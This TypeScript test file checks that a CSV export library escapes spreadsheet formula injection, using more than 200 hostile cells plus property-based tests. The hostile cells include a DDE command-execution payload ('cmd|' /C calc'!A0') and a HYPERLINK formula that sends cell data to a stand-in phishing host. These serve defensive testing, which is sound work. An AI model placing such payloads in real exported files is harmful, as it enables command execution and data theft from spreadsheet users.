import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { csvOf, escapeFormula } from "#src/lib/csv.ts";
import { runs } from "../../deep.ts";

/** The table as a CSV parser reads it, strictly: every row as long as the first. */
const read = (csv: string): string[][] => parse(csv, { record_delimiter: "\r\n" });

/** Characters that begin a formula in a spreadsheet, after those that it skips. */
const live = /^[\s\p{Cc}\p{Default_Ignorable_Code_Point}]*[=+\-@|%＝＋－＠]/u;
const startsAFormula = (cell: string) => live.test(cell);

const signs = [..."=+-@|%＝＋－＠"];
const before = [
  ...[
    "",
    " ",
    "  ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\0",
    "\u00a0",
    "\u3000",
    "\ufeff",
    "\u200b",
    "\u202e",
  ],
  ...["'", '"', ",", ";"],
];
const bodies = ["1+1", `HYPERLINK("https://phish.example?x="&A1,"Open")`, "cmd|' /C calc'!A0"];

/** More than 200 cells that mean harm. */
const hostile = [
  ...before.flatMap((start) => signs.map((sign) => `${start}${sign}${bodies[0]}`)),
  ...signs.flatMap((sign) => bodies.map((body) => `${sign}${body}`)),
  ...[`","=1+1`, `"\r\n=1+1`, `a"b`, `""`, "'", "''=1", "\r\n", "a\nb", "x,y;z\t", "\u2028=1"],
  ...["👩‍💻 =1", "-", "", "null", "café", "＝cmd|' /C calc'!A0"],
];

describe("CSV", () => {
  test("200 hostile cells come back as they were, and none starts a formula", () => {
    expect(hostile.length).toBeGreaterThan(200);
    // The control: most of them would have been one.
    expect(hostile.filter(startsAFormula).length).toBeGreaterThan(150);
    const rows = hostile.map((cell, index) => [`row ${index}`, cell, index]);
    const back = read(csvOf(["name", "cell", "number"], rows));
    expect(back).toHaveLength(hostile.length + 1);
    expect(back.flat().filter(startsAFormula)).toEqual([]);
    back.slice(1).forEach(([name, cell = "", number], index) => {
      expect([name, number]).toEqual([`row ${index}`, String(index)]);
      expect(cell.replace(/^'/, "")).toBe(hostile[index]);
    });
  });

  test("any table keeps its rows, its columns and its texts", () => {
    const cell = fc.oneof(
      fc.string({ unit: "binary", maxLength: 12 }),
      fc.constantFrom(...hostile),
      fc.stringMatching(/^[\s=+@|%",;'-]{0,6}$/),
    );
    const table = fc.array(fc.tuple(cell, cell, cell), { minLength: 1, maxLength: 8 });
    fc.assert(
      fc.property(table, (rows) => {
        const back = read(csvOf(["a", "b", "c"], rows));
        expect(back.slice(1).map((row) => row.map((each) => each.replace(/^'/, "")))).toEqual(rows);
        expect(back.flat().filter(startsAFormula)).toEqual([]);
      }),
      runs(),
    );
  });

  test("every field is quoted, every line ends with CRLF, nothing is empty, numbers are numbers", () => {
    expect(
      csvOf(
        ["a", "b"],
        [
          ["x", null],
          [-1.5, undefined],
        ],
      ),
    ).toBe('"a","b"\r\n"x",""\r\n"-1.5",""\r\n');
    expect(csvOf(["a"], [])).toBe('"a"\r\n');
  });

  test("plain words are left as they are", () => {
    for (const plain of ["", "invoice.deleted", "https://a.example/x?y=1", "2026-11-21", "a = b"])
      expect(escapeFormula(plain)).toBe(plain);
  });
});
